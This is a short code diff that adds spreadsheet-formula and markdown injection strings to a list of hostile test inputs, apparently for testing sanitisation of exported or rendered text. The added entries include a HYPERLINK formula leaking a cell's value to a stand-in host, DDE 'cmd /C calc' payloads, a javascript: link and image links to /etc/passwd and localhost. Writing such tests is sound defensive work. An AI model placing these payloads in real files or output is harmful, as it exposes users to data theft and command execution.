@@ -26,6 +26,14 @@ NASTY = [
     "\u2028line separator\u2029",
     "\t\v\f",
     "BEGIN:VEVENT\r\nEND:VCALENDAR",
+    # Spreadsheet formulas (OWASP CSV injection) and links that run or load something.
+    '=HYPERLINK("http://evil.example/?leak="&C2,"Klik")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "[klik](javascript:alert(1))",
+    "![x](file:///etc/passwd) ![y](http://127.0.0.1:9/x.png)",
 ]
 
 
